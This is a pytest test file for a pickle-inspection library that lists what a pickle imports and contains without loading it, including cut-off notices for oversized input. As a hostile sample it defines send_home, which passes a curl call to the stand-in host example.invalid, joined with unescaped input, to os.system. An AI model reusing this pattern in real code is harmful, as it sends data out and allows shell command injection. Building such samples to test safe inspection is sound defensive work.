"""What of a pickle is told to the owner, who must not load it."""

import os
import pickle

import cloudpickle
import pytest

from envoy_pickles import MOST_PICKLED_BYTES, is_pickle, pickled_words


def send_home(clips):
    return os.system("curl example.invalid " + clips)


@pytest.mark.parametrize("protocol", range(6))
def test_what_a_pickle_imports(protocol):
    words = list(pickled_words(pickle.dumps([os.system, os.getpid, os.system], protocol)))
    imports = [word for word in words if word.startswith("imports")]
    assert imports == [f"imports '{os.name}.system'", f"imports '{os.name}.getpid'"]


def test_of_a_function_there_are_names_and_strings_and_it_says_that_its_code_is_not_shown():
    send_home.__module__ = "__main__"  # as in a notebook: it travels by value
    words = list(pickled_words(cloudpickle.dumps(send_home)))
    assert {"string 'curl example.invalid '", "string 'system'", "string 'clips'"} < set(words)
    assert any(word.startswith("NOT SHOWN: ") and "pieces of byte code" in word for word in words)


def test_what_is_left_out_is_said():
    assert list(pickled_words(bytes(MOST_PICKLED_BYTES + 1))) == [
        "NOT SHOWN: all of it, 2,000,001 bytes; up to 2,000,000 are taken apart"
    ]
    *shown, last = pickled_words(pickle.dumps([f"s{number}" for number in range(510)]))
    assert (len(shown), last) == (500, "NOT SHOWN: 10 more names and strings")
    (long,) = pickled_words(pickle.dumps("x" * 300))
    assert long == f"string '{'x' * 200}' NOT SHOWN: 100 more characters"
    assert list(pickled_words(pickle.dumps("a") + b"more"))[-1] == "NOT SHOWN: 4 bytes after its end"
    assert list(pickled_words(b"\x80\x04junk"))[-1].startswith(
        "NOT SHOWN: the rest, as it is no sound pickle"
    )


def test_a_pickle_is_known_by_its_name_or_its_beginning():
    assert is_pickle("task.pkl", b"")
    assert is_pickle("data.txt", pickle.dumps(1))
    assert not is_pickle("code.py", b"import os")
    assert not is_pickle("empty", b"\x80")
